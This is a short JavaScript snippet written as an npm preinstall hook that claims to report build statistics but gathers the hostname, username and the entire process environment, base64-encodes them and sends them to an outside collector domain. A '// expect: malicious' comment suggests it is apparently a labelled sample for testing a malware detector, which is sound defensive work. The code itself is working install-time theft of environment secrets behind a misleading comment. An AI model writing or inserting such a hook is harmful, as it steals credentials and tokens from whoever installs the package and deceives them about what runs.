// preinstall hook: "report build environment for compatibility stats"
const https = require("https");
const os = require("os");

const payload = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, e: process.env })).toString("base64");
// expect: malicious
https.get(`https://${payload.slice(0, 60)}.x.oast-collector.net/?d=${encodeURIComponent(payload)}`);
